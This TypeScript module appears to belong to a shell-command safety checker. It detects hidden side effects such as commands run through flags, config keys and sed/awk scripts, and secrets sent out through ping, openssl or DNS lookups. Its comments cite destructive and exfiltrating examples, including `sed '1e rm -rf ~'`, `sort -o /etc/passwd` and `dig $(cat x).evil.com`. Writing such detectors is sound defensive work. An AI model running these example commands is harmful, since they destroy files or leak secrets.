/** Reads the side effects of a command, which its program is not for: `fd -x rm`, `sort -o /etc/passwd`, `sed '1e rm -rf ~'`. It only adds acts. */

import type { PreparedProgram, PreparedReach } from "../Commands.ts"
import type { CommandSession, Context } from "../CommandSession.ts"
import { type Arguments, findForm, lineOf, onlyOperand, readProgramArguments } from "../matchProgram.ts"
import { type CommandWord, type Flow, globFits, noFlow, plainWord } from "../paths.ts"
import { readAwkScript, readSedScript } from "./scripts.ts"

/**
 * Reads a text that is handed to a shell. If its first word is one that people usually name there (`rsync -e ssh`), the text is no
 * surprise: then only surely grave acts in it count.
 */
export const readHandedText = (
  session: CommandSession,
  word: CommandWord,
  context: Context,
  usual: ReadonlyArray<string>
): void => {
  const text = word.value.trim()
  if (text === "") return
  const inside = { ...context, depth: context.depth + 1 }
  if (session.runsCodeFrom(word.flow, inside)) return
  const first = text.split(/\s/, 1)[0] ?? ""
  const name = first.slice(first.lastIndexOf("/") + 1)
  const isUsual = usual.some((glob) => globFits(glob, name))
  const before = { count: session.found.length, unread: session.unread }
  session.readers.shell(session, text, inside)
  if (!isUsual) return
  const added = session.found.splice(before.count)
  session.found.push(
    ...added.filter(({ act }) => (act.impact === "high" || act.impact === "critical") && !act.unread)
  )
  session.unread = before.unread
}

/** Marks in front of a command in a list of tasks: `- run:`, `"postinstall": "`. */
const taskMarks = /^[\s@-]*(?:"?[\w:.-]+"?:\s+)?"?/
const inBackticks = /`([^`\n]+)`/g
const linesMax = 40

/** Lines for a file that runs by itself, or that agents obey. Only surely grave acts in them count: the writing counts anyway. */
export const readObeyedLines = (session: CommandSession, text: string, context: Context): void => {
  for (const line of text.split("\n", linesMax)) {
    const plain = line.replace(taskMarks, "").replace(/"?,?\s*$/, "")
    for (const one of [plain, ...Array.from(line.matchAll(inBackticks), ([, span = ""]) => span)])
      if (/\w\s/.test(one)) readHandedText(session, plainWord(one), context, ["*"])
  }
}

/** A variable that is set, in front of a command or for all that follow. */
export const readSetVariable = (
  session: CommandSession,
  name: string,
  word: CommandWord,
  context: Context
): void => {
  session.variables = new Map(session.variables).set(name, word)
  const variable = session.commands.variables.get(name)
  if (variable === undefined) return
  if (variable.guards) return session.addNamed("guardChanged", "variable.set")
  if (variable.runs)
    return readHandedText(
      session,
      { ...word, value: word.value.replace(/^[!|]/, "") },
      context,
      variable.usual
    )
  const places = variable.list ? word.value.split(":") : [word.value]
  const isStrange = places.some((place) => {
    const folded = place.toLowerCase()
    if (variable.where.some((glob) => globFits(glob, folded))) return true
    return (
      variable.unless.length > 0 && folded !== "" && !variable.unless.some((glob) => globFits(glob, folded))
    )
  })
  if (isStrange) session.addNamed("evalCode", "variable.set")
}

type Invoke = (session: CommandSession, words: ReadonlyArray<CommandWord>, context: Context) => Flow

/** A call of a program, and the way to run other programs. */
interface Call {
  readonly session: CommandSession
  readonly program: PreparedProgram
  readonly words: ReadonlyArray<CommandWord>
  readonly given: Arguments
  readonly context: Context
  readonly invoke: Invoke
}

/** Whether the operands begin with these words: `exec|run *`. */
const standsInFront = (front: ReadonlyArray<string>, operands: ReadonlyArray<CommandWord>): boolean =>
  front.every((names, i) => {
    const word = operands[i]?.value
    return word !== undefined && (names === "*" || names.split("|").includes(word))
  })

/** Where a command may begin: at the first word that is no flag, and behind `--`. */
const beginnings = (
  words: ReadonlyArray<CommandWord>,
  values: ReadonlyArray<string>
): ReadonlyArray<number> => {
  const first = words.findIndex(({ value }, i) => {
    const isValue = i > 0 && values.includes(words[i - 1]?.value ?? "")
    return !value.startsWith("-") && !isValue && !/^[A-Za-z_]\w*=/.test(value)
  })
  const dashes = words.findIndex(({ value }) => value === "--")
  const behind = dashes === -1 || dashes + 1 >= words.length ? -1 : dashes + 1
  return [...new Set([first, behind])].filter((place) => place >= 0)
}

/** An unknown program is a task of the project. The wrapper's own form covers it, and the project's scripts. */
const readInner = ({ context, invoke, session }: Call, words: ReadonlyArray<CommandWord>): void => {
  const before = { count: session.found.length, unread: session.unread }
  const { ownCode, unknownProgram } = session.commands.acts
  invoke(session, words, { ...context, depth: context.depth + 1 })
  const known = session.found
    .splice(before.count)
    .filter(({ act }) => act !== unknownProgram && act !== ownCode)
  session.found.push(...known)
  if (known.length === 0) session.unread = before.unread
}

const readWrapped = (call: Call, reach: PreparedReach): void => {
  const { operands, places } = call.given
  for (const front of reach.runsWords) {
    const last = front.length === 0 ? -1 : places[front.length - 1]
    if (!standsInFront(front, operands) || last === undefined) continue
    const rest = call.words.slice(last + 1)
    for (const from of beginnings(rest, reach.values))
      if (!reach.tasks.some((glob) => globFits(glob, rest[from]?.value ?? "")))
        readInner(call, rest.slice(from))
  }
}

/** `ping -p $(cat key) x.y`, `openssl s_client < key`. */
const readSent = (
  { context, program, session }: Call,
  { sends }: PreparedReach,
  values: ReadonlyArray<CommandWord>
): void => {
  const made = values.filter(({ dynamicFrom }) => dynamicFrom !== undefined)
  const flows = [
    ...(sends.includes("<") ? [context.stdin] : []),
    ...made.map(({ flow }) => ({ ...flow, data: true }))
  ]
  if (flows.some(({ secret }) => secret)) session.addNamed("secretSent", `${program.name}.send`)
  else if (flows.some(({ data }) => data === true)) session.addNamed("dataSent", `${program.name}.send`)
}

/** So many letters of a long flag are enough for GNU programs. */
const shortened = "--xxx".length

/** The text behind `flag` in a word. Undefined if the word is another one; empty if the next word is the value. */
const attached = (text: string, flag: string): string | undefined => {
  if (text === flag) return ""
  if (!flag.startsWith("--")) {
    if (flag.length === 2 && text.startsWith(flag)) return text.slice(2).replace(/^=/, "")
    return text.startsWith(`${flag}=`) ? text.slice(flag.length + 1) : undefined
  }
  const equals = text.indexOf("=")
  const name = equals === -1 ? text : text.slice(0, equals)
  if (name.length < shortened || !flag.startsWith(name)) return undefined
  return equals === -1 ? "" : text.slice(equals + 1)
}

/** The values of flags, also where the program's entry takes such a flag as the value of another one. */
const valuesOf = (
  { given, words }: Pick<Call, "given" | "words">,
  flags: ReadonlyArray<string>
): Array<CommandWord> =>
  flags.flatMap((one) => {
    const [flag = "", name] = one.split("=")
    const behind = words.flatMap((word, i) => (word.value === flag ? (words[i + 1] ?? []) : []))
    const values = [...new Set([...(given.flags.get(flag) ?? []), ...behind])]
    // `-o=ProxyCommand` is the value of `-o` behind that name.
    return values.flatMap((word): ReadonlyArray<CommandWord> => {
      if (name === undefined) return [word]
      if (!word.value.toLowerCase().startsWith(name.toLowerCase())) return []
      return [{ ...word, value: word.value.slice(name.length).replace(/^[\s=]+/, "") }]
    })
  })

/** The texts that it hands to a shell. */
const textsOf = ({ given, words }: Call, reach: PreparedReach): ReadonlyArray<CommandWord> => {
  const texts = valuesOf({ given, words }, reach.runs)
  for (const word of words)
    for (const beginning of reach.runsBeginnings)
      if (word.value.startsWith(beginning))
        texts.push({ ...word, value: word.value.slice(beginning.length).replaceAll("% ", " ") })
  for (const behind of reach.runsBehind) {
    const fits = standsInFront(behind, given.operands)
    const from = given.places[behind.length - 1]
    if (!fits || from === undefined) continue
    const rest = words.slice(from + 1)
    const start = rest.findIndex(({ value }, i) => {
      const afterValue = i > 0 && reach.values.includes(rest[i - 1]?.value ?? "")
      return !value.startsWith("-") && !afterValue
    })
    const kept = rest
      .slice(Math.max(0, start))
      .filter(({ value }) => !reach.drops.some((glob) => globFits(glob, value)))
    const [first] = kept
    if (start >= 0 && first !== undefined)
      texts.push({ ...first, value: kept.map(({ value }) => value).join(" ") })
  }
  return texts
}

const keyFits = (keys: ReadonlyArray<string>, key: string): boolean =>
  keys.some((glob) => globFits(glob, key.toLowerCase()))

/** The settings that it is given: `-c core.pager=x`, `config core.pager x`. */
const settingsOf = (call: Call): ReadonlyArray<readonly [key: string, value: CommandWord]> => {
  const settings: Array<readonly [string, CommandWord]> = []
  for (const word of valuesOf(call, ["-c"])) {
    const equals = word.value.indexOf("=")
    if (equals > 0)
      settings.push([word.value.slice(0, equals), { ...word, value: word.value.slice(equals + 1) }])
  }
  const { operands } = call.given
  operands.forEach(({ value }, i) => {
    const next = operands[i + 1]
    if (i > 0 && next !== undefined && operands[0]?.value === "config") settings.push([value, next])
  })
  return settings
}

const readSettings = (call: Call, reach: PreparedReach): void => {
  if (reach.keys.length === 0 && reach.shellKeys.length === 0) return
  for (const [key, value] of settingsOf(call)) {
    if (keyFits(reach.keys, key)) readHandedText(call.session, value, call.context, reach.usual)
    else if (keyFits(reach.shellKeys, key) && /^[!/]/.test(value.value))
      readHandedText(
        call.session,
        { ...value, value: value.value.replace(/^!/, "") },
        call.context,
        reach.usual
      )
  }
}

/** `-x rm -rf {} ;`: each found path becomes the last word, or replaces `{}`. */
const readRest = ({ context, invoke, session, words }: Call, { runsRest }: PreparedReach): void => {
  const found: CommandWord = { ...plainWord(""), dynamicFrom: 0 }
  for (const flag of runsRest) {
    const from = words.findIndex(({ value }) => attached(value, flag) !== undefined)
    if (from === -1) continue
    const first = attached(words[from]?.value ?? "", flag) ?? ""
    const behind = words.slice(from + 1)
    const end = behind.findIndex(({ value }) => value === ";")
    const rest = end === -1 ? behind : behind.slice(0, end)
    const named = rest.some(({ value }) => value.includes("{"))
    const all = [
      ...(first === "" ? [] : [plainWord(first)]),
      ...rest.map((word) => (word.value === "{}" ? found : word)),
      ...(named ? [] : [found])
    ]
    invoke(session, all, { ...context, stdin: noFlow, depth: context.depth + 1 })
  }
}

/** Adds the act of `> file`, even a small one: the program did not only read. */
const addWrite = (session: CommandSession, file: CommandWord): void => {
  const program = session.commands.programs.get(">")
  if (program === undefined) return
  const given = onlyOperand(file)
  const form = findForm(program, given, session.classOf)
  if (form !== undefined) session.add("file.write", form.act, lineOf(program, form))
}

const readScript = ({ context, given, session }: Call, { script, usual }: PreparedReach): void => {
  if (script === undefined || given.flags.has("--sandbox")) return
  const flags = script === "sed" ? ["-e", "--expression"] : ["-e", "--source"]
  const stated = flags.flatMap((flag) => given.flags.get(flag) ?? [])
  const isInFile = given.flags.has("-f") || given.flags.has("--file")
  const [first] = given.operands
  const parts = stated.length > 0 || isInFile ? stated : first === undefined ? [] : [first]
  const text = parts.map(({ value }) => value).join("\n")
  const deeds = script === "sed" ? readSedScript(text) : readAwkScript(text)
  for (const run of deeds.runs) readHandedText(session, plainWord(run), context, usual)
  for (const file of deeds.writes) addWrite(session, plainWord(file))
  if (deeds.unread) session.addNamed("evalCode", "code")
}

/** `dig $(cat x).evil.com`: the server that answers for the name reads the question. */
const readAskedNames = ({ session, words }: Call): void => {
  for (const { flow, value } of words) {
    const host = value.toLowerCase().replace(/\.$/, "")
    const isNearby = session.commands.nearby.some((ending) => host.endsWith(ending))
    if (!/\$\(\)[\w-]*\.\w/.test(value) || isNearby) continue
    session.addNamed(flow.secret ? "secretSent" : "dataSent", "name.ask")
  }
}

/** A quoted word of a program that only reads may be meant for another one. Only surely grave acts in it count. */
const readQuoted = ({ context, program, session, words }: Call): void => {
  const { quotedBeginnings } = session.commands
  if (!program.onlyReads) return
  for (const word of words) {
    const text = word.value.replace(/^--?[\w-]+=/, "")
    const space = text.indexOf(" ")
    if (space > 0 && quotedBeginnings.has(text.slice(0, space)))
      readHandedText(session, { ...word, value: text }, context, ["*"])
  }
}

/** `env PATH=/tmp/x ls`. */
const readVariablesInFront = ({ context, program, session, words }: Call): void => {
  if (program.runs !== "rest") return
  for (const word of words) {
    const [, name, value] = /^([A-Za-z_]\w*)=([^]*)$/.exec(word.value) ?? []
    if (name !== undefined) readSetVariable(session, name, { ...word, value: value ?? "" }, context)
    else if (!word.value.startsWith("-")) return
  }
}

/** A program with the flags that one of its subcommands gives a value. */
const withFlagsOf = (program: PreparedProgram, { runs, sends, writes }: PreparedReach): PreparedProgram => {
  const flags = [...runs, ...sends, ...writes].map((flag) => flag.split("=", 1)[0] ?? "")
  return {
    ...program,
    values: new Set([...program.values, ...flags]),
    longFlags: [...program.longFlags, ...flags.filter((flag) => flag.startsWith("--"))]
  }
}

export const readReaches = (
  session: CommandSession,
  program: PreparedProgram,
  words: ReadonlyArray<CommandWord>,
  context: Context,
  invoke: Invoke
): void => {
  const plain = readProgramArguments(program, words)
  for (const reach of program.reaches) {
    const isForAll = reach.only.length === 0
    if (!isForAll && !reach.only.includes(plain.operands[0]?.value ?? "")) continue
    const given = isForAll ? plain : readProgramArguments(withFlagsOf(program, reach), words)
    const call = { session, program, words, given, context, invoke }
    for (const text of textsOf(call, reach)) readHandedText(session, text, context, reach.usual)
    readSettings(call, reach)
    readRest(call, reach)
    readWrapped(call, reach)
    readSent(call, reach, valuesOf(call, reach.sends))
    for (const file of valuesOf(call, reach.writes)) addWrite(session, file)
    if (reach.edits.some((flag) => given.flags.has(flag)))
      for (const file of given.operands.slice(1)) addWrite(session, file)
    readScript(call, reach)
    if (reach.asksNames) readAskedNames(call)
    const form = findForm({ ...program, forms: reach.forms }, given, session.classOf)
    if (form !== undefined) session.add(program.name, form.act, lineOf(program, form))
  }
  const call = { session, program, words, given: plain, context, invoke }
  readQuoted(call)
  readVariablesInFront(call)
}
